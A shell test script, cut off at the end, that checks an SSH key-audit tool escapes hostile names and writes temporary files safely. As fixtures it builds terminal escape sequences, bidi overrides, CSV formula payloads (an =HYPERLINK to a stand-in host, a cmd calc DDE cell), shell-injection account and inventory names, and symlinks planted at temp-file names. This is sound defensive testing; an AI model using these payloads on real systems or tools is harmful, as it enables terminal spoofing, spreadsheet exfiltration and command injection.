# part-escape.sh - text a host, an inventory or a user chose never drives a
# terminal, a spreadsheet or a shell, and the files keyaudit writes never
# follow a planted link or outlive their run (sourced by
# tests/security/run.sh; accounts kase*, ports 127.0.0.1:2320-2329).
#
# Accounts, directories, key comments, sshd_config values, known_hosts
# names, an SSH banner and a scan report carry escape sequences, C1 and bidi
# characters and CSV formulas; every command's terminal output (scan,
# diagnose, keys, known-hosts, diff, checks, sshd-config, stderr) must hold
# none of them raw, no CSV cell may start a formula, and every printed
# command, pasted into sh, runs nothing a name brought in. Then the
# temporaries: created with O_EXCL beside the file, never through a symlink
# at the old predictable name, and gone after SIGTERM, SIGINT, SIGHUP and an
# allocation failure half way.

EB=$T_BASE/escape
mkdir -p "$EB"
chmod 755 "$EB"
PY=python3
[ -x /usr/bin/python3 ] && PY=/usr/bin/python3
ESC=$(printf '\033')
RLO=$(printf '\342\200\256')		# U+202E RIGHT-TO-LEFT OVERRIDE
LRI=$(printf '\342\201\246')		# U+2066 LEFT-TO-RIGHT ISOLATE
ALM=$(printf '\330\234')		# U+061C ARABIC LETTER MARK
LSEP=$(printf '\342\200\250')		# U+2028 LINE SEPARATOR
ZWSP=$(printf '\342\200\213')		# U+200B ZERO WIDTH SPACE
CSI1=$(printf '\302\233')		# U+009B, the C1 CSI
printf '' >"$EB/empty"			# ssh_config and known_hosts with nothing

# ek_raw FILE...: prints where a file holds a byte a terminal would act on
# or that reads as another text (ESC, other C0 controls but TAB and LF, DEL,
# C1, invalid UTF-8, bidi and invisible characters); status 0 when it found
# one. The escaped forms (\x1b, \u202e) are what must be there instead.
ek_raw() {
	perl -MEncode -e '
		my $bad = qr/[\x{00}-\x{08}\x{0b}-\x{1f}\x{7f}-\x{9f}\x{ad}\x{61c}\x{200b}-\x{200f}\x{2028}-\x{202e}\x{2060}-\x{206f}\x{feff}\x{e0000}-\x{e007f}]/;
		my $found = 0;
		for my $f (@ARGV) {
			open(my $h, "<:raw", $f) or next;
			local $/;
			my $b = <$h> // "";
			my $s = eval { Encode::decode("UTF-8", $b, Encode::FB_CROAK) };
			if (!defined $s) { print "$f: invalid UTF-8\n"; $found = 1; next; }
			if ($s =~ /$bad/) {
				my $at = $-[0];
				my $ctx = substr($s, $at > 30 ? $at - 30 : 0, 60);
				$ctx =~ s/([^\x{20}-\x{7e}])/sprintf("<U+%04X>", ord($1))/ge;
				print "$f: U+", sprintf("%04X", ord(substr($s, $at, 1))), " at char $at: $ctx\n";
				$found = 1;
			}
		}
		exit($found ? 0 : 1);' "$@"
}
# ek_clean WHAT FILE...: t_ok when no file holds a raw byte, else t_nok
ek_clean() {
	local what=$1 out
	shift
	if out=$(ek_raw "$@"); then
		t_nok "$what: raw control, C1, bidi or invalid bytes" "$out"
	else
		t_ok "$what: no raw ESC, C1, bidi or invalid byte"
	fi
}

# --- an image (--root) whose accounts, homes, directories and comments are
# named with escape sequences, bidi characters and CSV formulas; every name
# a shell would act on carries a command that writes a marker if run
IMG=$EB/img
U1="kase${ESC}]0;pwned${ESC}\\${ESC}[31m1"		# OSC title, then red
U2="kase${RLO}2gpj.exe"					# reads as kaseexe.jpg2
U3='kase$(echo>pwned3)3'
H1="/home/kase1${ESC}[2J"
H2="/home/kase${LRI}2${ALM}"
H3="/home/kase3;echo>pwned4;'q'"
mkdir -p "$IMG/etc/ssh" "$IMG/bin" "$IMG/home"
printf 'root:x:0:0:root:/root:/bin/sh\n%s:x:64001:64001::%s:/bin/sh\n%s:x:64002:64002::%s:/bin/sh\n%s:x:64003:64003::%s:/bin/sh\n' \
    "$U1" "$H1" "$U2" "$H2" "$U3" "$H3" >"$IMG/etc/passwd"
printf 'root:x:0:\nkase1:x:64001:\nkase2:x:64002:\nkase3:x:64003:\n' >"$IMG/etc/group"
printf 'ID=debian\n' >"$IMG/etc/os-release"
printf '#!/bin/sh\n' >"$IMG/bin/sh"
chmod 755 "$IMG/bin/sh"
printf 'PasswordAuthentication no\nKbdInteractiveAuthentication no\nAuthorizedKeysFile .ssh/authorized_keys .ssh/k%s[2Jd%s/keys\nBanner /etc/issue%s[5m%s\n' \
    "$ESC" "$RLO" "$ESC" "$LSEP" >"$IMG/etc/ssh/sshd_config"
ssh-keygen -q -t ed25519 -N '' -C kase -f "$EB/k" </dev/null
KB=$(cut -d' ' -f2 "$EB/k.pub")
n=0
for h in "$H1" "$H2" "$H3"; do
	n=$((n + 1))
	d=$IMG$h
	mkdir -p "$d/.ssh" "$d/.ssh/k${ESC}[2Jd${RLO}"
	{
		printf 'ssh-ed25519 %s =HYPERLINK("http://x.invalid/"&A1,"click")\n' "$KB"
		printf 'ssh-ed25519 %s +cmd|'"'"'/C calc'"'"'!A0\n' "$KB"
		printf 'ssh-ed25519 %s -2+3\n' "$KB"
		printf 'ssh-ed25519 %s @SUM(A1)\n' "$KB"
		printf 'ssh-ed25519 %s \tTAB\n' "$KB"
		printf 'ssh-ed25519 %s evil%s]0;pwned%s\\ red%s[31m c1%s31m\n' "$KB" "$ESC" "$ESC" "$ESC" "$CSI1"
		printf 'ssh-ed25519 %s admin%sgpj.exe %s%s %s\n' "$KB" "$RLO" "$ZWSP" "$LSEP" "$LRI"
	} >"$d/.ssh/authorized_keys"
	printf 'ssh-ed25519 %s in-a-named-dir\n' "$KB" >"$d/.ssh/k${ESC}[2Jd${RLO}/keys"
	chown -R "6400$n:6400$n" "$d"
	chmod 0777 "$d"				# perm findings: chmod commands on these paths
	chmod 0700 "$d/.ssh"
	chmod 0666 "$d/.ssh/authorized_keys"	# and on the key files
done
chmod 755 "$IMG" "$IMG/etc" "$IMG/etc/ssh" "$IMG/home" "$IMG/bin"

# --- a real account named with a bidi override, and one plainly named whose
# key file sits in a directory named with an escape sequence
UB="kase${RLO}4"
echo "user $UB" >>"$T_BASE/cleanup.list"
echo "group $UB" >>"$T_BASE/cleanup.list"
getent passwd "$UB" >/dev/null && userdel -r "$UB" >/dev/null 2>&1
if useradd --badname --create-home --user-group --shell /bin/sh --password '*' "$UB" 2>/dev/null; then
	t_keyfile "$UB" "$EB/k.pub"
	printf 'ssh-ed25519 %s bidi%s-comment\n' "$KB" "$RLO" >>"$(getent passwd "$UB" | cut -d: -f6)/.ssh/authorized_keys"
	UBS=("--user" "$UB")
else
	t_skip "an account named with a bidi override" "useradd --badname refused it"
	UBS=()
fi
t_user kase5 || t_nok "account kase5"
t_keyfile kase5 "$EB/k.pub"
KD="d${ESC}]0;x$(printf '\007')"			# an OSC title ended by BEL
install -d -m 0700 -o kase5 -g kase5 "/home/kase5/.ssh/$KD"
printf 'ssh-ed25519 %s in-the-osc-dir\n' "$KB" >"/home/kase5/.ssh/$KD/authorized_keys"
printf 'AuthorizedKeysFile .ssh/authorized_keys .ssh/%s/authorized_keys\n' "$KD" >"$EB/sshd_local"
printf 'ssh-ed25519 %s k5%s[41mred\n' "$KB" "$ESC" >>/home/kase5/.ssh/authorized_keys
chmod 0664 /home/kase5/.ssh/authorized_keys

# --- 1. terminal output of every command
"$KA" scan --root "$IMG" --all-users >"$EB/scan.out" 2>"$EB/scan.err"
rc=$?
[ $rc -le 1 ] && grep -qF 'kase1\x1b[2J' "$EB/scan.out" && grep -qF 'kase\u202e2gpj.exe' "$EB/scan.out" &&
    t_ok "scan --root: the hostile accounts and homes are reported, escaped (exit $rc)" ||
    t_nok "scan --root of the hostile image (exit $rc)" "$(head -c 2000 "$EB/scan.err"; grep -a -m5 kase "$EB/scan.out" | cat -v)"
ek_clean "scan text" "$EB/scan.out" "$EB/scan.err"
"$KA" scan --user kase5 "${UBS[@]}" --sshd-config "$EB/sshd_local" >"$EB/scanl.out" 2>"$EB/scanl.err"
ek_clean "scan of this machine (a bidi account, an escape in a key file's directory)" \
    "$EB/scanl.out" "$EB/scanl.err"
for f in table csv json; do
	"$KA" keys --root "$IMG" --all-users --format $f >"$EB/keys.$f" 2>"$EB/keys.$f.err"
	ek_clean "keys --format $f" "$EB/keys.$f" "$EB/keys.$f.err"
done
"$KA" keys --user kase5 "${UBS[@]}" --sshd-config "$EB/sshd_local" >"$EB/keysl.table" 2>&1
grep -qF '/home/kase5/.ssh/d\x1b]0;x\x07/authorized_keys:1' "$EB/keysl.table" && ek_clean "keys table of this machine" "$EB/keysl.table" ||
    t_nok "keys table lists kase5's key in the escaped directory" "$(cat -v "$EB/keysl.table" | head)"
grep -qF 'kase\x1b]0;pwned\x1b\\\x1b[31m1' "$EB/keys.table" && grep -qF 'admin\u202egpj.exe' "$EB/keys.table" &&
    t_ok "keys table: account and comment shown escaped, not dropped" ||
    t_nok "keys table escapes" "$(grep -a kase "$EB/keys.table" | head -3 | cat -v)"
jq -e '[.keys[] | select(.user | contains("\\u202e"))] | length > 0' "$EB/keys.json" >/dev/null &&
    jq -e '[.keys[] | select(.path | contains("\\x1b[2J"))] | length > 0' "$EB/keys.json" >/dev/null &&
    t_ok "keys json: account and path present, escaped" ||
    t_nok "keys json escapes" "$(jq -c '.keys[0]' "$EB/keys.json" 2>&1 | cat -v)"
"$KA" diagnose --local --root "$IMG" --user "$U2" --pubkey "$EB/k.pub" >"$EB/diag.out" 2>"$EB/diag.err"
rc=$?
[ $rc -le 1 ] && grep -qF 'kase\u202e2' "$EB/diag.out" &&
    t_ok "diagnose --local --root of a bidi-named account (exit $rc)" ||
    t_nok "diagnose --local --root (exit $rc)" "$(cat -v "$EB/diag.err" "$EB/diag.out" | head)"
"$KA" diagnose --local --root "$IMG" --user "$U1" --pubkey "$EB/k.pub" >>"$EB/diag.out" 2>>"$EB/diag.err"
"$KA" diagnose --local --root "$IMG" --user "$U1" --pubkey "$EB/k.pub" --format json >"$EB/diag.json" 2>>"$EB/diag.err"
ek_clean "diagnose text and json" "$EB/diag.out" "$EB/diag.err" "$EB/diag.json"
"$KA" sshd-config --root "$IMG" >"$EB/sshdc.out" 2>"$EB/sshdc.err"
grep -qF 'banner /etc/issue\x1b[5m\u2028' "$EB/sshdc.out" &&
    t_ok "sshd-config: a value with an escape and U+2028 shown escaped, on one line" ||
    t_nok "sshd-config escapes" "$(grep -ai banner "$EB/sshdc.out" | cat -v) $(cat -v "$EB/sshdc.err")"
ek_clean "sshd-config" "$EB/sshdc.out" "$EB/sshdc.err"
"$KA" checks >"$EB/checks.out" 2>&1
ek_clean "checks" "$EB/checks.out"
# errors on stderr: an argument, an inventory line, a file name
"$KA" "frob${ESC}]0;pwned${ESC}\\" >"$EB/e1.out" 2>"$EB/e1.err"
rc=$?
[ $rc = 2 ] && [ "$(wc -l <"$EB/e1.err")" = 1 ] && grep -qF 'frob\x1b]0;pwned' "$EB/e1.err" &&
    t_ok "an unknown command with an escape sequence: one line, exit 2, escaped" ||
    t_nok "unknown command error (exit $rc)" "$(cat -v "$EB/e1.err")"
"$KA" scan --snapshot "$EB/no${RLO}such${ESC}[2J.json" >"$EB/e2.out" 2>"$EB/e2.err"
rc=$?
[ $rc = 2 ] && [ "$(wc -l <"$EB/e2.err")" = 1 ] && grep -qF 'no\u202esuch\x1b[2J' "$EB/e2.err" &&
    t_ok "a missing --snapshot named with bidi and ESC: one line, exit 2, escaped" ||
    t_nok "missing snapshot error (exit $rc)" "$(cat -v "$EB/e2.err")"
ek_clean "error lines" "$EB/e1.err" "$EB/e2.err"

# --- 2. hosts: a banner with escapes, known_hosts names, an inventory
if t_sshd esc 127.0.0.1 2320 "AuthorizedKeysFile .ssh/authorized_keys"; then
	ESC_SSHD=1
else
	ESC_SSHD=0
	t_nok "sshd on 127.0.0.1:2320 starts"
fi
# a server whose greeting and banner carry an OSC title, a bidi override, a
# C1 CSI and a line separator; it then says nothing more
cat >"$EB/banner.py" <<'EOF'
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(16)
print("ready", flush=True)
held = []
while True:
    c, _ = s.accept()
    try:
        c.sendall(b"hello \x1b]0;pwned\x07 \xe2\x80\xae gnp.exe\r\n"
                  b"SSH-2.0-Evil\x1b[2J\xe2\x80\xae\xc2\x9b31m\xe2\x80\xa8x\r\n")
    except OSError:
        pass
    held.append(c)
EOF
"$PY" "$EB/banner.py" 2322 >"$EB/banner.log" 2>&1 &
echo "pid $!" >>"$T_BASE/cleanup.list"
for _ in $(seq 1 100); do grep -q ready "$EB/banner.log" && break; sleep 0.05; done
{
	t_known_hosts esc 127.0.0.1 2320
	printf 'web9%s[2J,gone%s.example %s\n' "$ESC" "$RLO" "$(cut -d' ' -f1,2 "$EB/k.pub")"
	printf 'old%sbox ssh-ed25519 %s\n' "$LSEP" "$KB"
} >"$EB/kh"
printf '127.0.0.1:2320\n127.0.0.1:2322\n' >"$EB/inv"
"$KA" known-hosts -f "$EB/inv" --inventory-complete -F "$EB/empty" --known-hosts "$EB/kh" \
    --timeout 5 >"$EB/kh.out" 2>"$EB/kh.err"
rc=$?
# (the check escapes the name in its message and the report again: \\x1b)
[ $rc = 1 ] && grep -qE 'web9\\+x1b\[2J' "$EB/kh.out" && grep -q '127.0.0.1:2322' "$EB/kh.out" &&
    t_ok "known-hosts: the evil banner's host and the escaped known_hosts names are reported (exit 1)" ||
    t_nok "known-hosts (exit $rc)" "$(cat -v "$EB/kh.out" "$EB/kh.err" | head -20)"
ek_clean "known-hosts text and stderr" "$EB/kh.out" "$EB/kh.err"
"$KA" scan 127.0.0.1:2322 -F "$EB/empty" --known-hosts "$EB/kh" --timeout 5 >"$EB/banner.out" 2>"$EB/banner.err"
"$KA" scan 127.0.0.1:2322 -F "$EB/empty" --known-hosts "$EB/kh" --timeout 5 --format json \
    >"$EB/banner.json" 2>>"$EB/banner.err"
"$KA" keys 127.0.0.1:2322 -F "$EB/empty" --known-hosts "$EB/kh" --timeout 5 >"$EB/bkeys.out" 2>"$EB/bkeys.err"
"$KA" diagnose kase5@127.0.0.1:2322 -i "$EB/k" -F "$EB/empty" --known-hosts "$EB/kh" --timeout 5 \
    >"$EB/bdiag.out" 2>"$EB/bdiag.err"
ek_clean "scan, keys and diagnose of a host whose banner holds escapes" "$EB/banner.out" \
    "$EB/banner.err" "$EB/banner.json" "$EB/bkeys.out" "$EB/bkeys.err" "$EB/bdiag.out" "$EB/bdiag.err"
# an inventory host whose name is a shell command: refused, one line, exit 2
printf 'web1;touch %s/pwned;:\n' "$EB" >"$EB/inv-evil"
printf '[web]\nweb1%sP0;x%s;touch${IFS}%s/pwned ansible_port=22\n' "$ESC" "$RLO" "$EB" >"$EB/inv-evil2"
for inv in inv-evil inv-evil2; do
	"$KA" scan -f "$EB/$inv" -F "$EB/empty" >"$EB/$inv.out" 2>"$EB/$inv.err"
	rc=$?
	[ $rc = 2 ] && [ "$(wc -l <"$EB/$inv.err")" = 1 ] && grep -q "$inv:[12]: " "$EB/$inv.err" &&
	    ! ek_raw "$EB/$inv.err" >/dev/null && [ ! -e "$EB/pwned" ] &&
	    t_ok "inventory $inv (a host named as a command): refused in one escaped line, exit 2" ||
	    t_nok "inventory $inv (exit $rc)" "$(cat -v "$EB/$inv.err")"
done
grep -qF 'web1\x1bP0;x\u202e;touch${IFS}' "$EB/inv-evil2.err" &&
    t_ok "the refused inventory name is shown escaped" ||
    t_nok "refused inventory name escaped" "$(cat -v "$EB/inv-evil2.err")"

# --- 3. diff of a report someone forged: raw escapes in JSON strings
"$KA" scan --root "$IMG" --all-users --format json >"$EB/a.json" 2>/dev/null
jq --arg e "$ESC" --arg r "$RLO" --arg c "$CSI1" '
    .hosts += [{target: ("new" + $e + "]0;pwned" + $e + "\\" + $r), status: "scanned",
      hostkey: ("SHA256:x" + $c + "31m"),
      keys: [], findings: [{check: ("perm.x" + $e + "[2J"), severity: "high",
      host: ("new" + $r), message: ("m" + $e + "[31m" + $r), user: "u", path: "/p"}]}]
    | .hosts[0].hostkey = "SHA256:old" ' "$EB/a.json" >"$EB/b.json"
jq '.hosts[0].hostkey = "SHA256:new" + "\u001b[5m"' "$EB/b.json" >"$EB/b2.json"
"$KA" diff "$EB/a.json" "$EB/b2.json" >"$EB/diff.out" 2>"$EB/diff.err"
rc=$?
"$KA" diff --format json "$EB/a.json" "$EB/b2.json" >"$EB/diff.json" 2>>"$EB/diff.err"
[ $rc = 1 ] && grep -qF 'new\x1b]0;pwned' "$EB/diff.out" && jq -e . "$EB/diff.json" >/dev/null &&
    t_ok "diff of a forged report: the new host shown escaped (exit 1)" ||
    t_nok "diff (exit $rc)" "$(cat -v "$EB/diff.out" "$EB/diff.err" | head)"
ek_clean "diff text and json" "$EB/diff.out" "$EB/diff.err" "$EB/diff.json"

# --- 4. CSV: no cell starts a formula
"$PY" - "$EB/keys.csv" >"$EB/csv.check" 2>&1 <<'EOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = [(i, c) for i, r in enumerate(rows) for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
defused = [c for r in rows for c in r if c.startswith("'=HYPERLINK") or c.startswith("'+cmd")]
width = {len(r) for r in rows}
print("rows", len(rows), "widths", sorted(width), "bad", bad[:5], "defused", len(defused))
sys.exit(0 if rows and not bad and len(defused) >= 2 and len(width) == 1 else 1)
EOF
[ $? = 0 ] && t_ok "keys --format csv: RFC 4180, and no cell starts with = + - @ TAB CR ($(cat "$EB/csv.check"))" ||
    t_nok "keys csv cells" "$(cat "$EB/csv.check")"

# --- 5. every printed command, pasted into sh, runs nothing a name brought in
# The fixes of findings that are all commands, as the JSON "fix" (the text a
# person reads and pastes), run in a sandbox whose PATH holds only stubs that
# record their arguments; the names carry ;, $(), `` and quotes that would
# write pwned* files into the sandbox if the shell saw them as syntax.
mkdir -p "$EB/sandbox" "$EB/stub"
cat >"$EB/stub/stub" <<EOF
#!/bin/sh
{ printf '%s' "\${0##*/}"; for a; do printf ' [%s]' "\$a"; done; echo; } >>"$EB/stub.log"
EOF
chmod 755 "$EB/stub/stub"
for v in chmod chown chgrp sed ssh-copy-id ssh-keygen ssh-keyscan ssh touch rm mkdir install \
    usermod passwd chage getent systemctl sshd cat mv cp ssh-add; do
	ln -sf stub "$EB/stub/$v"
done
jq '.hostname = "web1;echo>pwned-host;:" | .users = ["alice"]' \
    fixtures/snapshots/akeys-missing.json >"$EB/evil-host.json"
"$KA" scan --root "$IMG" --all-users --format json >"$EB/cmds1.json" 2>/dev/null
"$KA" scan --snapshot "$EB/evil-host.json" --format json >"$EB/cmds2.json" 2>/dev/null
jq -r '.hosts[].findings[] | select(.fix != null and (.remedy | length) > 0 and
    ([.remedy[] | has("run")] | all)) | .fix' "$EB/cmds1.json" "$EB/cmds2.json" >"$EB/cmds.txt"
: >"$EB/stub.log"
ncmd=0 nbad=0
while IFS= read -r fix; do
	cmd=$(printf '%s\n' "$fix" | sed -e 's/^on the client: //' -e 's/^as the user: //' \
	    -e 's/; then on the client: /; /g' -e 's/; then as the user: /; /g' -e 's/; then /; /g')
	ncmd=$((ncmd + 1))
	if ! sh -n -c "$cmd" 2>>"$EB/sh-n.err"; then
		nbad=$((nbad + 1))
		echo "sh -n: $cmd" >>"$EB/sh-n.err"
	fi
	(cd "$EB/sandbox" && PATH=$EB/stub /bin/sh -c "$cmd") >/dev/null 2>&1
done <"$EB/cmds.txt"
pw=$(find "$EB/sandbox" "$EB" -maxdepth 1 -name 'pwned*')
[ "$ncmd" -ge 4 ] && [ "$nbad" = 0 ] && [ -z "$pw" ] &&
    grep -qF '[alice@web1;echo>pwned-host;:]' "$EB/stub.log" &&
    grep -qF "/home/kase3;echo>pwned4;'q'" "$EB/stub.log" &&
    t_ok "$ncmd printed commands with hostile names: valid sh, each name one word, nothing else ran" ||
    t_nok "printed commands ($ncmd, $nbad not valid sh, pwned: $pw)" "$(head -5 "$EB/sh-n.err" 2>/dev/null; head -5 "$EB/stub.log"; head -3 "$EB/cmds.txt")"
# a name that would not read as what runs (a bidi override) is no command
jq --arg r "$RLO" '.hostname = ("web1" + $r + "lmth.exe") | .users = ["alice"]' \
    fixtures/snapshots/akeys-missing.json >"$EB/bidi-host.json"
"$KA" scan --snapshot "$EB/bidi-host.json" --checks akeys --format json >"$EB/cmds3.json" 2>/dev/null
jq -e '[.hosts[].findings[] | select(.check == "akeys.missing") | .remedy[] | select(has("run"))] | length == 0' \
    "$EB/cmds3.json" >/dev/null &&
    jq -e '[.hosts[].findings[] | select(.check == "akeys.missing")] | length > 0' "$EB/cmds3.json" >/dev/null &&
    t_ok "a host name with a bidi override: the ssh-copy-id fix is prose, not a command" ||
    t_nok "bidi host name in ssh-copy-id" "$(jq -c '[.hosts[].findings[] | select(.check == "akeys.missing") | .remedy]' "$EB/cmds3.json" | cat -v)"
# the fix script: no live command on a path that does not show as it is
"$KA" scan --root "$IMG" --all-users --fix-script "$EB/fix.sh" >/dev/null 2>&1
sh -n "$EB/fix.sh" && ! ek_raw "$EB/fix.sh" >/dev/null &&
    ! sed -n '/^keyaudit_fix_/,/^}/p' "$EB/fix.sh" | grep -v '^[[:space:]]*#' | grep -qE 'kase1.x1b|u202e|\\x|\\u' &&
    t_ok "fix script: valid sh, no raw escapes, no live command on an escaped path" ||
    t_nok "fix script" "$(grep -v '^[[:space:]]*#' "$EB/fix.sh" | grep -E 'ka_ch' | head -5 | cat -v)"

# --- 6. temporary files: O_EXCL beside the file, every file keyaudit writes
TD=$EB/out
mkdir -p "$TD"
if command -v strace >/dev/null; then
	: >"$EB/strace.log"
	strace -f -qq -e trace=open,openat,creat,rename -o "$EB/st1" "$KA" scan --root "$IMG" --all-users \
	    --json "$TD/r.json" --junit "$TD/r.xml" --sarif "$TD/r.sarif" --prom "$TD/r.prom" \
	    --fix-script "$TD/r.sh" --write-baseline "$TD/base.json" >/dev/null 2>&1
	strace -f -qq -e trace=open,openat,creat,rename -o "$EB/st2" "$KA" collect --root "$IMG" --all-users \
	    -o "$TD/snap.json" >/dev/null 2>&1
	[ "$ESC_SSHD" = 1 ] && strace -f -qq -e trace=open,openat,creat,rename -o "$EB/st3" \
	    "$KA" known-hosts 127.0.0.1:2320 -F "$EB/empty" --pin "$TD/pin" >/dev/null 2>&1
	cat "$EB"/st[123] >"$EB/strace.log" 2>/dev/null
	# every create in the directory: O_EXCL, a FILE.tmp.XXXXXX name; each
	# renamed onto its file
	bad=$(grep -E "\"$TD/[^\"]*\", [^)]*O_CREAT" "$EB/strace.log" | grep -v O_EXCL)
	names=$(grep -E "\"$TD/[^\"]*\", [^)]*O_CREAT" "$EB/strace.log" | sed -E 's/.*"'"${TD//\//\\/}"'\/([^"]*)".*/\1/')
	odd=$(printf '%s\n' "$names" | grep -vE '^(r\.(json|xml|sarif|prom|sh)|base\.json|snap\.json|pin)\.tmp\.[A-Za-z0-9]{6}$')
	want="base.json pin r.json r.prom r.sarif r.sh r.xml snap.json"
	[ "$ESC_SSHD" = 1 ] || want="base.json r.json r.prom r.sarif r.sh r.xml snap.json"
	got=$(grep -E "rename\(\"$TD/" "$EB/strace.log" | sed -E 's/.*, "'"${TD//\//\\/}"'\/([^"]*)"\).*/\1/' | sort | tr '\n' ' ')
	[ -z "$bad" ] && [ -z "$odd" ] && [ "$got" = "$want " ] &&
	    t_ok "reports, baseline, snapshot and pin: created O_EXCL as FILE.tmp.XXXXXX beside the file, renamed onto it" ||
	    t_nok "temporaries (strace)" "without O_EXCL: $bad
odd names: $odd
renamed: $got (want $want)"
	[ "$(stat -c %a "$TD/snap.json")" = 600 ] && [ "$(stat -c %a "$TD/r.json")" = "$(printf '%o' $((0666 & ~$(umask))))" ] &&
	    t_ok "modes: the snapshot 0600, reports as the umask gives" ||
	    t_nok "modes" "$(stat -c '%n %a' "$TD"/*)"
else
	t_skip "temporaries created with O_EXCL" "strace is not installed"
fi
left=$(find "$TD" -name '*.tmp*')
[ -z "$left" ] && t_ok "no temporary left after successful runs" || t_nok "temporaries left" "$left"

# a symlink planted at the old predictable name FILE.tmp.PID (the PID is
# known: the shell execs keyaudit) is neither followed nor in the way
echo "kase-victim-$$" >"$EB/victim"
chmod 0644 "$EB/victim"
vsum=$(stat -c '%s %Y' "$EB/victim")
plant() { # plant FILE CMD...: the link at FILE.tmp.$$, then exec CMD
	bash -c 'ln -s "$0" "$1.tmp.$$" && shift && exec "$@"' "$EB/victim" "$@"
}
plant "$TD/p.json" "$KA" scan --root "$IMG" --all-users --json "$TD/p.json" >/dev/null 2>"$EB/plant1.err"
rc=$?
[ $rc -le 1 ] && [ -f "$TD/p.json" ] && [ ! -L "$TD/p.json" ] && jq -e .hosts "$TD/p.json" >/dev/null &&
    [ "$(cat "$EB/victim")" = "kase-victim-$$" ] && [ "$(stat -c '%s %Y' "$EB/victim")" = "$vsum" ] &&
    t_ok "--json with a symlink at FILE.tmp.PID: written in place, the link's target untouched" ||
    t_nok "--json past a planted link (exit $rc)" "$(cat "$EB/plant1.err"; ls -l "$TD" | grep p.json)"
if [ "$ESC_SSHD" = 1 ]; then
	plant "$TD/p.pin" "$KA" known-hosts 127.0.0.1:2320 -F "$EB/empty" --pin "$TD/p.pin" >/dev/null 2>"$EB/plant2.err"
	rc=$?
	[ $rc = 0 ] && [ -f "$TD/p.pin" ] && [ ! -L "$TD/p.pin" ] && grep -q '^\[127.0.0.1\]:2320 ssh-ed25519 ' "$TD/p.pin" &&
	    [ "$(cat "$EB/victim")" = "kase-victim-$$" ] && [ "$(stat -c '%s %Y' "$EB/victim")" = "$vsum" ] &&
	    t_ok "--pin with a symlink at FILE.tmp.PID: the pin written in place, the link not followed" ||
	    t_nok "--pin past a planted link (exit $rc)" "$(cat "$EB/plant2.err"; ls -l "$TD" | grep p.pin; head -3 "$EB/victim")"
fi
rm -f "$TD"/p.json.tmp.* "$TD"/p.pin.tmp.*	# the planted links, not keyaudit's
# a file that cannot be written is named as asked, never as its temporary
mkdir -p "$TD/adir"
"$KA" scan --root "$IMG" --all-users --prom "$TD/nodir/m.prom" >/dev/null 2>"$EB/w1.err"
rc1=$?
"$KA" scan --root "$IMG" --all-users --prom "$TD/adir" >/dev/null 2>"$EB/w2.err"
rc2=$?
[ $rc1 = 2 ] && grep -qF "$TD/nodir/m.prom:" "$EB/w1.err" && ! grep -q '\.tmp' "$EB/w1.err" &&
    [ $rc2 = 3 ] && grep -qF "$TD/adir:" "$EB/w2.err" && ! grep -q '\.tmp' "$EB/w2.err" &&
    [ -z "$(find "$TD" -name '*.tmp*')" ] &&
    t_ok "--prom that cannot be written: the error names the file, not the temporary; none left" ||
    t_nok "--prom write errors (exit $rc1, $rc2)" "$(cat "$EB/w1.err" "$EB/w2.err"; find "$TD" -name '*.tmp*')"

# --- 7. a signal while the files are open: the temporaries go, the old
# files stay. A tarpit (accepts, never speaks) holds the scan half way.
cc -O2 -Wall -Wextra -Werror -o "$EB/hostile" tests/fleet/hostile.c 2>"$EB/cc.err" ||
    t_nok "hostile.c builds" "$(cat "$EB/cc.err")"
"$EB/hostile" silent 127.0.0.1 2321 >"$EB/tarpit.log" 2>&1 &
echo "pid $!" >>"$T_BASE/cleanup.list"
for _ in $(seq 1 100); do grep -q ready "$EB/tarpit.log" && break; sleep 0.05; done
# sig_run SIG EXIT WHAT CMD...: CMD in the background (signals at their
# default, not the ignored SIGINT a script gives background jobs), until a
# temporary exists; then SIG. The old files must be as they were, no
# temporary left, and the exit status that of death by SIG.
sig_run() {
	local sig=$1 want=$2 what=$3 pid rc i left
	shift 3
	rm -rf "$TD/sig"
	mkdir -p "$TD/sig"
	for f in a.json a.prom a.sh a.pin a.xml; do echo "old-$f" >"$TD/sig/$f"; done
	env --default-signal=INT,TERM,HUP,PIPE "$@" >/dev/null 2>"$EB/sig.err" &
	pid=$!
	for i in $(seq 1 200); do
		[ -n "$(find "$TD/sig" -name '*.tmp*')" ] && break
		sleep 0.05
	done
	ls "$TD/sig" >"$EB/sig.during"
	kill -s "$sig" "$pid"
	wait "$pid" 2>/dev/null		# (bash would say "Hangup")
	rc=$?
	left=$(find "$TD/sig" -name '*.tmp*')
	if grep -q '\.tmp' "$EB/sig.during" && [ $rc = "$want" ] && [ -z "$left" ] &&
	    [ "$(cat "$TD/sig/a.json")" = old-a.json ] && [ "$(cat "$TD/sig/a.pin")" = old-a.pin ]; then
		t_ok "$what: SIG$sig half way: exit $rc, no temporary left ($(grep -c '\.tmp' "$EB/sig.during") existed), old files kept"
	else
		t_nok "$what: SIG$sig (exit $rc, want $want)" "during: $(tr '\n' ' ' <"$EB/sig.during")
left: $left
$(cat "$EB/sig.err")"
	fi
}
sig_run TERM 143 "known-hosts --pin --json --junit" "$KA" known-hosts 127.0.0.1:2321 -F "$EB/empty" \
    --timeout 120 --pin "$TD/sig/a.pin" --json "$TD/sig/a.json" --junit "$TD/sig/a.xml"
grep -q 'a.pin.tmp' "$EB/sig.during" && t_ok "the pin's temporary exists while the scan runs (opened before it)" ||
    t_nok "the pin's temporary is opened before the scan" "$(cat "$EB/sig.during")"
sig_run INT 130 "scan --json --prom --fix-script" "$KA" scan 127.0.0.1:2321 -F "$EB/empty" \
    --timeout 120 --json "$TD/sig/a.json" --prom "$TD/sig/a.prom" --fix-script "$TD/sig/a.sh"
sig_run HUP 129 "scan --json --junit" "$KA" scan 127.0.0.1:2321 -F "$EB/empty" \
    --timeout 120 --json "$TD/sig/a.json" --junit "$TD/sig/a.xml"

# --- 8. the memory runs out half way: after the first file is created,
# allocation N fails (tests/security/oomshim.c), for N from 0 to 4096
# A sanitizer build has its own malloc in the executable, which the shim
# cannot replace: probe first, and say so instead of failing.
oom_probe() {
	rm -rf "$TD/oom"
	mkdir -p "$TD/oom"
	{ KA_OOM_DIR=$TD/oom KA_OOM_AFTER=0 LD_PRELOAD=$EB/oomshim.so "$KA" collect --root "$IMG" \
